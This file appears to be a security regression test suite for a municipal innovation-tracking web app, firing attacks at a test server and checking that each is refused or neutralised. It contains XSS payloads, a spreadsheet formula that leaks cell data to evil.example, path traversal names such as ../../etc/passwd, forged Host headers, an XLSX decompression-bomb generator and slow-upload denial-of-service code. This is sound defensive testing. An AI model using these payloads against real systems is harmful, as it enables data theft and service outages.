import { SESSION_COOKIE } from '../../src/lib/server/auth/settings.ts';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/server.ts';
import { makeTempDir, removeDir } from '../helpers/temp.ts';
import { Client, seedUser, visibleText } from './auth-helpers.ts';

/**
 * An outsider's and a low-privilege user's attacks on what was built on 30 Nov 2026, on the real server over HTTP:
 * the Badami bulk import (XLSX bombs, another OPD's records by id), the milestone and measurement exports (formula
 * injection), the evidence zip (path traversal in file names), the anonymous page cache of /badami and
 * /badami/dashboard (a signed-in page, another language or a forged Host served to others; stale pages), the board's
 * URL filters and Atom feeds (reflected markup), CSRF on the new actions, and many refused uploads held open at once.
 * Each test asserts the safe behaviour a user would see.
 */
let root: string;
let server: TestServer;
const password = 'sandi penyerang hari ini';
const c: Record<string, Client> = {};
let id = '';
let kominfoId = '';

const PROFILE = {
  title: 'Posyandu Serangan Uji',
  summary: 'Pencatatan tumbuh kembang balita.',
  opd: 'dinkes',
  initiator: 'opd',
  innovation_type: 'digital',
  form: 'pelayanan_publik',
  affair: 'kesehatan',
  city_wide: 'true',
};

async function importFile(who: string, kind: string, bytes: Buffer, name: string): Promise<{ status: number; text: string }> {
  const form = new FormData();
  form.set('kind', kind);
  form.set('file', new File([new Uint8Array(bytes)], name));
  const reply = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, {
    method: 'POST',
    body: form,
    redirect: 'manual',
    headers: { cookie: c[who]!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' },
  });
  return { status: reply.status, text: visibleText(await reply.text()) };
}

const download = async (who: string, pathname: string) => Buffer.from(await (await fetch(server.url + pathname, { headers: { cookie: c[who]!.cookieHeader() } })).arrayBuffer());

/** A GET with headers fetch will not send (Host). */
function rawGet(pathname: string, headers: Record<string, string>): Promise<{ status: number; text: string }> {
  const url = new URL(server.url);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, path: pathname, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** An XLSX whose first sheet holds `rows` rows of one cell, or `padding` bytes of whitespace (python3 writes it). */
function xlsxBomb(file: string, options: { rows?: number; padding?: number }): Buffer {
  const made = spawnSync('python3', ['-c', XLSX_BOMB, file, String(options.rows ?? 0), String(options.padding ?? 0)], { encoding: 'utf8' });
  expect(made.stderr).toBe('');
  return readFileSync(file);
}

beforeAll(async () => {
  root = makeTempDir('kota-attack-today-');
  const dataDir = path.join(root, 'data');
  seedUser(dataDir, { email: 'dinkes@serang.test', name: 'Pejabat Dinkes Rahasia', password, role: 'official', scope: 'dinkes' });
  seedUser(dataDir, { email: 'kominfo@serang.test', name: 'Pejabat Kominfo', password, role: 'official', scope: 'diskominfo' });
  server = await startTestServer({ dataDir });
  for (const who of ['dinkes', 'kominfo']) {
    c[who] = new Client(server.url);
    await c[who]!.logIn(`${who}@serang.test`, password);
  }
  c.anonymous = new Client(server.url);
  const created = await c.dinkes!.post('/badami/new?_action=badami.create', PROFILE);
  expect(created.status).toBe(303);
  id = /\/badami\/innovations\/([a-z0-9]+)$/.exec(created.location ?? '')![1]!;
  const other = await c.kominfo!.post('/badami/new?_action=badami.create', { ...PROFILE, title: 'Aplikasi Kominfo Uji', opd: 'diskominfo', affair: 'komunikasi_informatika' });
  expect(other.status).toBe(303);
  kominfoId = /\/badami\/innovations\/([a-z0-9]+)$/.exec(other.location ?? '')![1]!;
  const milestone = await c.dinkes!.post(`/badami/innovations/${id}?_action=badami.addMilestone`, { id, title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', owner: '@SUM(1+1)', due_on: '2030-01-31' });
  expect(milestone.status).toBeLessThan(400);
}, 240_000);

afterAll(async () => {
  await server?.stop();
  if (root) removeDir(root);
});

describe('XLSX bombs in the bulk import', () => {
  // Was VULNERABLE: ExcelJS unpacked the whole archive and built every row before the 5,000-row cap was checked; a
  // 1 MB file of tiny rows cost 1.9 s of CPU and 466 MB, a 5 MB one (the upload cap) would exhaust the server's memory.
  // Fixed in community/xlsx-limits.ts: the archive is inflated under a budget and its cells counted first.
  test('a small XLSX of 600,000 rows is refused before it is parsed, with a precise message, and the server keeps serving', async () => {
    const bytes = xlsxBomb(path.join(root, 'rows.xlsx'), { rows: 600_000 });
    expect(bytes.length).toBeLessThan(5 * 1024 * 1024);
    const reply = await importFile('dinkes', 'milestones', bytes, 'tonggak.xlsx');
    expect(reply.status).toBe(400);
    expect(reply.text).toContain('terlalu besar setelah dibuka');
    expect((await c.anonymous!.get('/badami')).status).toBe(200);
  });

  test('an XLSX that unpacks to 200 MB (a deflate bomb in one part) is refused the same way', async () => {
    const bytes = xlsxBomb(path.join(root, 'pad.xlsx'), { padding: 200 * 1024 * 1024 });
    expect(bytes.length).toBeLessThan(1024 * 1024);
    const reply = await importFile('dinkes', 'milestones', bytes, 'tonggak.xlsx');
    expect(reply.status).toBe(400);
    expect(reply.text).toContain('terlalu besar setelah dibuka');
  });

  test('a real milestones export (XLSX) still imports unchanged', async () => {
    const bytes = await download('dinkes', '/badami/export?opd=dinkes&kind=milestones');
    const reply = await importFile('dinkes', 'milestones', bytes, 'tonggak.xlsx');
    expect(reply.status).toBe(200);
  });
});

describe('import by id across OPDs', () => {
  test('a Kominfo official cannot change a Dinkes milestone by pairing its id with a Kominfo innovation, nor by its own id', async () => {
    const before = (await download('dinkes', '/badami/export?opd=dinkes&kind=milestones&format=csv')).toString('utf8');
    const milestoneId = /\r\n([a-z0-9]+),[^\r\n]*?,(\d+),/.exec(before)!;
    expect(milestoneId[1]).toBe(id);
    const header = 'ID inovasi,Nama inovasi,ID tonggak,Tonggak,Penanggung jawab,Tenggat (TTTT-BB-HH),Selesai (TTTT-BB-HH),Catatan\r\n';
    const paired = await importFile('kominfo', 'milestones', Buffer.from(`${header}${kominfoId},x,${milestoneId[2]},Diambil alih,Kominfo,2030-01-31,,\r\n`), 'tonggak.csv');
    expect(paired.status).toBe(400);
    const direct = await importFile('kominfo', 'milestones', Buffer.from(`${header}${id},x,${milestoneId[2]},Diambil alih,Kominfo,2030-01-31,,\r\n`), 'tonggak.csv');
    expect(direct.status).toBe(403);
    expect((await download('dinkes', '/badami/export?opd=dinkes&kind=milestones&format=csv')).toString('utf8')).toBe(before);
  });
});

describe('markup through the import and the evidence form', () => {
  test('an imported milestone with markup is shown as text; an evidence link to javascript: is refused', async () => {
    const header = 'ID inovasi,Nama inovasi,ID tonggak,Tonggak,Penanggung jawab,Tenggat (TTTT-BB-HH),Selesai (TTTT-BB-HH),Catatan\r\n';
    const row = `${id},x,,"<img src=x onerror=alert(""imp"")>",<script>alert(1)</script>,2030-02-28,,"<svg onload=alert(2)>"\r\n`;
    const reply = await importFile('dinkes', 'milestones', Buffer.from(header + row), 'tonggak.csv');
    expect(reply.status).toBe(200);
    const page = (await c.anonymous!.get(`/badami/innovations/${id}`)).text;
    const markup = page.replace(/="[^"]*"/g, '=""');
    expect(markup).not.toMatch(/<img[^>]*onerror/i);
    expect(markup).not.toContain('<script>alert(1)</script>');
    expect(markup).not.toMatch(/<svg[^>]*onload/i);
    expect(page).toContain('&lt;img src=x onerror=alert(');
    const form = new FormData();
    form.set('id', id);
    form.set('evidence_indicator', 'regulasi');
    form.set('evidence_title', 'Tautan jahat');
    form.set('evidence_url', 'javascript:alert(document.cookie)');
    const evidence = await fetch(`${server.url}/badami/innovations/${id}?_action=badamiManage.evidence`, {
      method: 'POST',
      body: form,
      redirect: 'manual',
      headers: { cookie: c.dinkes!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' },
    });
    expect(evidence.status).toBe(400);
    expect((await c.anonymous!.get(`/badami/innovations/${id}`)).text).not.toMatch(/href="\s*javascript:/i);
  });
});

describe('more of the same surfaces', () => {
  test('a bad cell carrying markup is named in the import’s error list as text', async () => {
    const header = 'ID inovasi,Nama inovasi,ID tonggak,Tonggak,Penanggung jawab,Tenggat (TTTT-BB-HH),Selesai (TTTT-BB-HH),Catatan\r\n';
    const form = new FormData();
    form.set('kind', 'milestones');
    form.set('file', new File([`${header}${id},x,,Judul,Pemilik,<script>alert(9)</script>,,<img src=x onerror=alert(8)>\r\n`], '<img src=x onerror=alert(7)>.csv'));
    const reply = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, { method: 'POST', body: form, redirect: 'manual', headers: { cookie: c.dinkes!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' } });
    expect(reply.status).toBe(400);
    const page = await reply.text();
    const markup = page.replace(/<textarea[^>]*>[\s\S]*?<\/textarea>/g, '').replace(/="[^"]*"/g, '=""');
    expect(markup).not.toContain('<script>alert(9)');
    expect(markup).not.toMatch(/<img[^>]*onerror/i);
    expect(page).toContain('&lt;script&gt;alert(9)');
  });

  test('record exports: another OPD’s official is refused, a visitor must sign in, a made-up kind or format is a 400', async () => {
    const status = async (who: string, query: string) => (await fetch(`${server.url}/badami/export${query}`, { headers: { cookie: c[who]!.cookieHeader() } })).status;
    expect(await status('kominfo', '?opd=dinkes&kind=milestones')).toBe(403);
    expect(await status('kominfo', '?opd=dinkes&kind=measurements&format=csv')).toBe(403);
    expect(await status('kominfo', '?kind=milestones')).toBe(403);
    expect(await status('anonymous', '?opd=dinkes&kind=milestones')).toBe(401);
    expect(await status('dinkes', '?opd=dinkes&kind=../../etc/passwd')).toBe(400);
    expect(await status('dinkes', '?opd=dinkes&kind=milestones&format=html')).toBe(400);
    expect(await status('dinkes', '?opd=..%2F..&kind=milestones')).toBe(404);
  });

  test('one innovation’s Atom feed stays well-formed with a title that tries to close the XML', async () => {
    const created = await c.dinkes!.post('/badami/new?_action=badami.create', { ...PROFILE, title: 'Judul ]]></title><script>alert(1)</script><title> & <![CDATA[x' });
    expect(created.status).toBe(303);
    const other = /\/badami\/innovations\/([a-z0-9]+)$/.exec(created.location ?? '')![1]!;
    for (const pathname of [`/badami/innovations/${other}/feed.xml`, '/badami/feed.xml?opd=dinkes', `/badami/innovations/${encodeURIComponent('<x>')}/feed.xml`]) {
      const reply = await c.anonymous!.get(pathname);
      if (reply.status !== 200) {
        expect(reply.status).toBe(404);
        continue;
      }
      const parsed = spawnSync('python3', ['-c', 'import sys, xml.dom.minidom as m; d = m.parseString(sys.stdin.read()); print(len(d.getElementsByTagName("script")))'], { input: reply.text, encoding: 'utf8' });
      expect(parsed.stderr).toBe('');
      expect(parsed.stdout.trim()).toBe('0');
    }
  });
});

describe('evidence files that are not what they say', () => {
  test('HTML named .pdf, an SVG with script and an executable are refused as evidence, nothing stored', async () => {
    const before = (await download('dinkes', '/badami/export?opd=dinkes&format=csv')).toString('utf8');
    const files = [
      { name: 'laporan.pdf', type: 'application/pdf', bytes: Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>') },
      { name: 'peta.svg', type: 'image/svg+xml', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>') },
      { name: 'setup.pdf', type: 'application/pdf', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) },
    ];
    for (const file of files) {
      const form = new FormData();
      form.set('id', id);
      form.set('evidence_indicator', 'regulasi');
      form.set('evidence_title', `Palsu ${file.name}`);
      form.append('evidence_files', new File([new Uint8Array(file.bytes)], file.name, { type: file.type }));
      const reply = await fetch(`${server.url}/badami/innovations/${id}?_action=badamiManage.evidence`, { method: 'POST', body: form, redirect: 'manual', headers: { cookie: c.dinkes!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' } });
      expect(reply.status).toBe(400);
    }
    expect((await download('dinkes', '/badami/export?opd=dinkes&format=csv')).toString('utf8')).toBe(before);
    expect(visibleText((await c.anonymous!.get(`/badami/innovations/${id}`)).text)).not.toContain('Palsu');
  });
});

describe('formula injection in the record exports', () => {
  test('a milestone titled =HYPERLINK(…) comes out as text: an apostrophe in CSV, no formula cell in XLSX', async () => {
    const csv = (await download('dinkes', '/badami/export?opd=dinkes&kind=milestones&format=csv')).toString('utf8');
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv).not.toMatch(/(^|,)"?@SUM/m);
    const file = path.join(root, 'tonggak.xlsx');
    writeFileSync(file, await download('dinkes', '/badami/export?opd=dinkes&kind=milestones'));
    const sheets = spawnSync('python3', ['-c', XLSX_FORMULAS, file], { encoding: 'utf8' });
    expect(sheets.stderr).toBe('');
    expect(JSON.parse(sheets.stdout)).toEqual({ formulas: 0, hasTitle: true });
  });
});

describe('evidence zip', () => {
  test('uploaded file names with ../, backslashes and absolute paths stay inside the zip’s folder', async () => {
    const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
    for (const name of ['../../../../etc/passwd.pdf', '..\\..\\windows\\evil.pdf', '/abs/olute.pdf', '.pdf']) {
      const form = new FormData();
      form.set('id', id);
      form.set('evidence_indicator', 'regulasi');
      form.set('evidence_title', `Bukti ${name}`);
      form.append('evidence_files', new File([new Uint8Array(PDF)], name, { type: 'application/pdf' }));
      const reply = await fetch(`${server.url}/badami/innovations/${id}?_action=badamiManage.evidence`, {
        method: 'POST',
        body: form,
        redirect: 'manual',
        headers: { cookie: c.dinkes!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' },
      });
      expect(reply.status).toBeLessThan(400);
    }
    const file = path.join(root, 'bukti.zip');
    writeFileSync(file, await download('dinkes', '/badami/evidence.zip?opd=dinkes'));
    const listed = spawnSync('python3', ['-c', 'import sys, json, zipfile; print(json.dumps(zipfile.ZipFile(sys.argv[1]).namelist()))', file], { encoding: 'utf8' });
    expect(listed.stderr).toBe('');
    const names = JSON.parse(listed.stdout) as string[];
    expect(names.filter((n) => n.endsWith('.pdf')).length).toBe(4);
    for (const n of names) {
      expect(n.startsWith('bukti-dukung-dinkes/')).toBe(true);
      expect(n).not.toMatch(/(^|\/)\.\.(\/|$)|\\|^\//);
    }
  });
});

describe('the anonymous page cache', () => {
  test('a signed-in official’s board and dashboard are never served to a reader without an account, in either order', async () => {
    for (const pathname of ['/badami', '/badami/dashboard', '/badami?view=table', '/badami/dashboard?opd=dinkes']) {
      expect((await c.anonymous!.get(pathname)).text).not.toContain('Pejabat Dinkes Rahasia');
      expect((await c.dinkes!.get(pathname)).text).toContain('Pejabat Dinkes Rahasia');
      const after = await c.anonymous!.get(pathname);
      expect(after.status).toBe(200);
      expect(after.text).not.toContain('Pejabat Dinkes Rahasia');
      expect(after.text).not.toContain('/badami/export');
    }
  });

  test('one reader’s language is not served to another', async () => {
    const english = await c.anonymous!.get('/badami/dashboard', { cookie: 'lang=en' });
    expect(english.text).toMatch(/<html[^>]*lang="en"/);
    const plain = await c.anonymous!.get('/badami/dashboard');
    expect(plain.text).toMatch(/<html[^>]*lang="id"/);
    expect((await c.anonymous!.get('/badami/dashboard', { cookie: 'lang=en' })).text).toMatch(/<html[^>]*lang="en"/);
  });

  test('a forged Host or X-Forwarded-Host does not poison the page others get', async () => {
    const url = new URL(server.url);
    const forgeries: Record<string, string>[] = [{ host: 'evil.example' }, { host: `${url.host}`, 'x-forwarded-host': 'evil.example' }, { host: 'evil.example', 'x-forwarded-host': 'evil.example' }];
    for (const headers of forgeries) {
      const forged = await rawGet('/badami', headers);
      expect(forged.text).not.toContain('evil.example');
    }
    expect((await c.anonymous!.get('/badami')).text).not.toContain('evil.example');
  });

  test('a change shows to readers at once (no stale page) and a session cookie that is not valid is not served a cached page with it', async () => {
    await c.anonymous!.get('/badami');
    const renamed = await c.dinkes!.post(`/badami/innovations/${id}?_action=badamiManage.health`, { id, health: 'stalled', reason: 'Tanda-uji-cache-segar' });
    expect(renamed.status).toBeLessThan(400);
    expect((await c.anonymous!.get(`/badami/innovations/${id}`)).text).toContain('Tanda-uji-cache-segar');
    const board = await c.anonymous!.get('/badami?view=table');
    expect(board.status).toBe(200);
    const forged = await c.anonymous!.get('/badami', { cookie: `${SESSION_COOKIE}=forged` });
    expect(forged.status).toBe(200);
    expect(forged.headers.get('x-cache')).toBeNull();
    expect(forged.text).not.toContain('Pejabat Dinkes Rahasia');
  });

  test('300 distinct query strings do not grow the cache without bound nor break the board', async () => {
    const before = process.memoryUsage().rss; // the server is another process: this only proves it keeps answering
    for (let i = 0; i < 300; i += 50) await Promise.all(Array.from({ length: 50 }, (_, k) => c.anonymous!.get(`/badami?junk=${i + k}`)));
    expect(before).toBeGreaterThan(0);
    const page = await c.anonymous!.get('/badami');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Posyandu Serangan Uji');
  });
});

describe('reflected markup in filters and feeds', () => {
  const payload = '"><script>alert(1)</script><x y="';
  test('board, dashboard and map filters from the URL are escaped', async () => {
    for (const pathname of ['/badami', '/badami?view=table', '/badami?view=map', '/badami/dashboard']) {
      for (const key of ['opd', 'stage', 'q', 'kecamatan', 'health', 'sort', 'page']) {
        const reply = await c.anonymous!.get(`${pathname}${pathname.includes('?') ? '&' : '?'}${key}=${encodeURIComponent(payload)}`);
        expect(reply.status).toBeLessThan(500);
        // Inside a quoted attribute value the payload is text (its quotes come out as &quot;).
        const markup = reply.text.replace(/="[^"]*"/g, '=""');
        expect(markup).not.toContain('<script>alert(1)</script>');
        expect(markup).not.toMatch(/<x y=/);
      }
    }
  });

  test('the Atom feed with an injected ?opd= stays well-formed XML without the payload as markup', async () => {
    for (const query of [`?opd=${encodeURIComponent(payload)}`, `?opd=${encodeURIComponent(']]><evil/>')}`, `?opd=${encodeURIComponent('dinkes&<x>')}`]) {
      const reply = await c.anonymous!.get(`/badami/feed.xml${query}`);
      expect(reply.status).toBeLessThan(500);
      if (reply.status !== 200) continue;
      const parsed = spawnSync('python3', ['-c', 'import sys, xml.dom.minidom as m; d = m.parseString(sys.stdin.read()); print(len(d.getElementsByTagName("script")) + len(d.getElementsByTagName("evil")))'], { input: reply.text, encoding: 'utf8' });
      expect(parsed.stderr).toBe('');
      expect(parsed.stdout.trim()).toBe('0');
    }
  });
});

describe('CSRF on the new actions', () => {
  test('import, health, evidence and promote posted from another site are refused and change nothing', async () => {
    const cross = { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' };
    const health = await c.dinkes!.post(`/badami/innovations/${id}?_action=badamiManage.health`, { id, health: 'at_risk', reason: 'Dipalsukan-lintas-situs' }, cross);
    expect(health.status).toBe(403);
    const evidence = await c.dinkes!.post(`/badami/innovations/${id}?_action=badamiManage.evidence`, { id, evidence_indicator: 'regulasi', evidence_title: 'Dipalsukan', evidence_url: 'https://evil.example/' }, cross);
    expect(evidence.status).toBe(403);
    const promote = await c.dinkes!.post('/badami?_action=badami.promote', { submission: 'x', opd: 'dinkes', affair: '' }, cross);
    expect(promote.status).toBe(403);
    const form = new FormData();
    form.set('kind', 'milestones');
    form.set('file', new File(['x'], 'a.csv'));
    const imported = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, { method: 'POST', body: form, redirect: 'manual', headers: { cookie: c.dinkes!.cookieHeader(), ...cross } });
    expect(imported.status).toBe(403);
    const page = visibleText((await c.anonymous!.get(`/badami/innovations/${id}`)).text);
    expect(page).not.toContain('Dipalsukan');
  });
});

describe('refused uploads held open', () => {
  /** A raw keep-alive POST declaring 500 MB that goes on sending 64 KiB every 20 ms until the server closes. */
  function slowUpload(pathname: string, headers: string): Promise<{ head: string; closedMs: number }> {
    const url = new URL(server.url);
    return new Promise((resolve) => {
      const started = Date.now();
      const socket = connect(Number(url.port), url.hostname);
      let data = '';
      const chunk = Buffer.alloc(64 * 1024, 0x61);
      let timer: NodeJS.Timeout | undefined;
      socket.on('connect', () => {
        socket.write(`POST ${pathname} HTTP/1.1\r\nHost: ${url.host}\r\nConnection: keep-alive\r\n${headers}Content-Length: ${500 * 1024 * 1024}\r\n\r\n`);
        timer = setInterval(() => socket.writable && socket.write(chunk), 20);
      });
      socket.on('data', (d) => (data += d.toString('latin1')));
      socket.on('error', () => {});
      socket.on('close', () => {
        clearInterval(timer);
        resolve({ head: data.split('\r\n\r\n')[0] ?? '', closedMs: Date.now() - started });
      });
    });
  }

  // Was VULNERABLE: a refusal (413 here, 403 for another site's post) was answered `Connection: keep-alive` to a client
  // that asked for it (any browser or attacker; the older test's client sent `Connection: close` itself), so Node read
  // and discarded the whole declared body at the sender's pace and the socket stayed open as long as it kept sending
  // (still open after 60 s). Fixed in http/linger.ts: an answer written before its body arrived says `Connection: close`.
  test('60 oversize or cross-site uploads that keep sending are answered, told Connection: close and closed in seconds', async () => {
    const same = `Origin: ${server.url}\r\nSec-Fetch-Site: same-origin\r\nCookie: ${c.dinkes!.cookieHeader()}\r\nContent-Type: multipart/form-data; boundary=x\r\n`;
    const cross = 'Origin: https://evil.example\r\nSec-Fetch-Site: cross-site\r\nContent-Type: application/x-www-form-urlencoded\r\n';
    const answers = await Promise.all(
      Array.from({ length: 60 }, (_, i) => (i % 3 === 2 ? slowUpload('/login?_action=auth.login', cross) : slowUpload('/badami/import?_action=badamiImport.upload', same))),
    );
    expect((await c.anonymous!.get('/badami')).status).toBe(200);
    answers.forEach((a, i) => {
      expect(a.head).toMatch(i % 3 === 2 ? /^HTTP\/1\.1 403/ : /^HTTP\/1\.1 413/);
      expect(a.head).toMatch(/\r\nConnection: close\r\n/i);
      // the lingering close gives the client 2 s to read the answer, then closes even while it sends
      expect(a.closedMs).toBeLessThan(15_000);
    });
  }, 60_000);
});

describe('slow accepted uploads', () => {
  // Was VULNERABLE: only 4 large (>1 MB) multipart action bodies are read at once per process, and the slot was taken
  // before anyone was signed in, for as long as the body took to arrive (Node's requestTimeout, 5 min). Four anonymous
  // connections trickling a declared 40 MB body held every slot, and officials' uploads got 503. Now the slots go to
  // signed-in people only (an anonymous large upload is refused unread with 401), one each.
  test('four anonymous uploads trickling bytes do not lock officials out of uploading', async () => {
    const url = new URL(server.url);
    const sockets = Array.from({ length: 4 }, () => {
      const socket = connect(Number(url.port), url.hostname);
      socket.on('error', () => {});
      socket.write(`POST /badami/import?_action=badamiImport.upload HTTP/1.1\r\nHost: ${url.host}\r\nOrigin: ${server.url}\r\nSec-Fetch-Site: same-origin\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${40 * 1024 * 1024}\r\n\r\n--x\r\n`);
      const timer = setInterval(() => socket.write('a'), 500);
      socket.on('close', () => clearInterval(timer));
      return socket;
    });
    await new Promise((r) => setTimeout(r, 1000));
    try {
      const form = new FormData();
      form.set('kind', 'milestones');
      form.set('file', new File([Buffer.alloc(2 * 1024 * 1024, 0x20)], 'tonggak.csv'));
      const reply = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, { method: 'POST', body: form, redirect: 'manual', headers: { cookie: c.dinkes!.cookieHeader(), origin: server.url, 'sec-fetch-site': 'same-origin' } });
      expect(reply.status).not.toBe(503);
      expect(reply.status).toBeLessThan(500);
    } finally {
      for (const socket of sockets) socket.destroy();
    }
  });

  test('an anonymous large upload is refused unread (401); one person gets one large upload at a time', async () => {
    const form = () => {
      const f = new FormData();
      f.set('kind', 'milestones');
      f.set('file', new File([Buffer.alloc(2 * 1024 * 1024, 0x20)], 'tonggak.csv'));
      return f;
    };
    const headers = { origin: server.url, 'sec-fetch-site': 'same-origin' };
    const anonymous = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, { method: 'POST', body: form(), redirect: 'manual', headers });
    expect(anonymous.status).toBe(401);
    expect(await anonymous.text()).toContain('Silakan masuk terlebih dahulu.');
    // The same official's second upload while the first trickles in waits its turn.
    const url = new URL(server.url);
    const socket = connect(Number(url.port), url.hostname);
    socket.on('error', () => {});
    socket.write(`POST /badami/import?_action=badamiImport.upload HTTP/1.1\r\nHost: ${url.host}\r\nOrigin: ${server.url}\r\nSec-Fetch-Site: same-origin\r\nCookie: ${c.dinkes!.cookieHeader()}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${40 * 1024 * 1024}\r\n\r\n--x\r\n`);
    await new Promise((r) => setTimeout(r, 1000));
    try {
      const second = await fetch(`${server.url}/badami/import?_action=badamiImport.upload`, { method: 'POST', body: form(), redirect: 'manual', headers: { ...headers, cookie: c.dinkes!.cookieHeader() } });
      expect(second.status).toBe(503);
      expect(second.headers.get('retry-after')).toBe('5');
    } finally {
      socket.destroy();
    }
  });
});

const XLSX_BOMB = `
import sys, zipfile
out, rows, padding = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
    z.writestr('_rels/.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + rel + '/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    z.writestr('xl/workbook.xml', '<?xml version="1.0"?><workbook ' + ns + ' xmlns:r="' + rel + '"><sheets><sheet name="data" sheetId="1" r:id="rId1"/></sheets></workbook>')
    z.writestr('xl/_rels/workbook.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + rel + '/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
    with z.open('xl/worksheets/sheet1.xml', 'w') as f:
        f.write(('<?xml version="1.0"?><worksheet ' + ns + '><sheetData>').encode())
        for i in range(0, rows, 20000):
            f.write(b''.join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (j + 1, j + 1) for j in range(i, min(rows, i + 20000))))
        block = b' ' * (1024 * 1024)
        for i in range(padding // len(block)):
            f.write(block)
        f.write(b'</sheetData></worksheet>')
`;

const XLSX_FORMULAS = `
import sys, json, zipfile, re
z = zipfile.ZipFile(sys.argv[1])
formulas = 0
has_title = False
for name in z.namelist():
    if name.startswith('xl/worksheets/') or name == 'xl/sharedStrings.xml':
        xml = z.read(name).decode('utf-8')
        formulas += len(re.findall(r'<f[ >]', xml))
        has_title = has_title or 'HYPERLINK' in xml
print(json.dumps({'formulas': formulas, 'hasTitle': has_title}))
`;
